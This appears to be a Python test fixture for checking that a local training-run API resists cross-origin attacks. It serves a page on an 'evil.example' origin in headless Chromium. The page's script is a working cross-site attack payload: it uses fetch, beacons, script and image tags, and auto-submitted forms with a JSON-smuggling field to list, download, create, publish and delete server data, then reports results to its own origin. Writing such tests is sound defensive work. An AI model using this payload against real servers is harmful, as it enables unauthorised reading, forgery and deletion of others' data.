"""A web page of another origin in a real browser (Chromium, headless), and what it tries on a
server: to list, download, create, publish and delete. test_foreign_page.py asks for it."""

import json
import shutil
import subprocess
import tempfile
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

BROWSER = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("chrome")
REASON = "no chromium: apt-get install chromium"
NAME = "evil.example"  # whose address the browser is told to be this machine's

PAGE = """<!doctype html><title>harmless</title><script>
const {servers, paths} = JSON.parse('%s');
const told = {};
async function attempt(name, action) {
  try { told[name] = String(await action()).slice(0, 400); }
  catch (error) { told[name] = 'failed: ' + error; }
}
const session = JSON.stringify({tags: ['page'], user_metadata: {}, sdk_version: '0'});
async function read(url, how) {
  const reply = await fetch(url, how);
  return reply.status + await reply.text();
}
function form(url, kind) {  // posts without asking, and opens the answer in a frame
  const [frame, made, field] = ['iframe', 'form', 'input'].map(x => document.createElement(x));
  frame.name = 'frame' + Math.random();
  Object.assign(made, {method: 'POST', action: url, target: frame.name, enctype: kind});
  Object.assign(field, {name: '{"tags": ["page"], "x": "', value: '"}'});
  made.append(field); document.body.append(frame, made);
  return new Promise(done => { frame.onload = () => done('sent'); made.submit(); });
}
function element(kind, url) {
  const made = document.createElement(kind);
  made.src = url; document.body.append(made);
  return new Promise(done => {
    made.onload = () => done('loaded'); made.onerror = () => done('failed: error');
  });
}
async function attack(name, api) {
  const post = (kind, mode) =>
    ({method: 'POST', body: session, mode, headers: {'Content-Type': kind}});
  await attempt(name + ' list', () => read(api + '/training_runs'));
  await attempt(name + ' list blindly', () => read(api + '/training_runs', {mode: 'no-cors'}));
  await attempt(name + ' download', () => read(api + paths.archive));
  await attempt(name + ' script', () => element('script', api + '/training_runs'));
  await attempt(name + ' image', () => element('img', api + paths.archive));
  await attempt(name + ' text', () => read(api + '/create_session', post('text/plain', 'no-cors')));
  await attempt(name + ' json', () => read(api + '/create_session', post('application/json')));
  await attempt(name + ' blob', () => read(api + '/create_session',
    {method: 'POST', body: new Blob([session]), mode: 'no-cors'}));
  await attempt(name + ' beacon', () => navigator.sendBeacon(api + '/create_session', session));
  await attempt(name + ' form', () => form(api + '/create_session', 'text/plain'));
  await attempt(name + ' other form', () => form(api + '/create_session', 'multipart/form-data'));
  await attempt(name + ' publish', () =>
    read(api + paths.publish, {method: 'POST', mode: 'no-cors'}));
  await attempt(name + ' delete', () => read(api + paths.checkpoint, {method: 'DELETE'}));
}
onload = async () => {
  for (const [name, api] of Object.entries(servers)) await attack(name, api);
  await fetch('/report', {method: 'POST', body: JSON.stringify(told)});
};
</script><body></body>"""


class Page:
    """A page that is served; `told` is what it reported, once `come` is set."""

    def __init__(self, port: int):
        self.url = f"http://localhost:{port}"
        self.text = ""
        self.told: dict[str, str] = {}
        self.come = threading.Event()


@contextmanager
def page() -> Iterator[Page]:
    """Serves a page at an origin of its own."""

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html; charset=utf-8")
            self.end_headers()
            self.wfile.write(served.text.encode())

        def do_POST(self) -> None:
            served.told = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
            self.send_response(200)
            self.end_headers()
            served.come.set()

        def log_message(self, *arguments: Any) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    served = Page(server.server_port)
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    try:
        yield served
    finally:
        server.shutdown()
        thread.join()
        server.server_close()


def visit(url: str, *, seconds: float, until: threading.Event | None = None) -> str:
    """Opens a URL in the browser, until it is shown or an event is set; returns the document."""
    assert BROWSER is not None
    with tempfile.TemporaryDirectory() as folder:
        command = [
            BROWSER, "--headless=new", "--no-sandbox", "--disable-gpu", "--no-first-run",
            "--disable-dev-shm-usage", f"--user-data-dir={folder}",
            f"--host-resolver-rules=MAP {NAME} 127.0.0.1",
            *(["--remote-debugging-port=0"] if until else ["--dump-dom"]), url,
        ]  # fmt: skip
        process = subprocess.Popen(
            command, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True
        )
        try:
            if until is not None:
                until.wait(seconds)
                process.terminate()
            return process.communicate(timeout=seconds)[0]
        finally:
            process.kill()
            process.wait()


def attack(served: Page, servers: dict[str, str], paths: dict[str, str], seconds: float) -> None:
    """Lets the page try everything on servers, by their names and URLs."""
    apis = {name: f"{url}/api/v1" for name, url in servers.items()}
    served.text = PAGE % json.dumps({"servers": apis, "paths": paths})
    served.come.clear()
    visit(served.url, seconds=seconds, until=served.come)
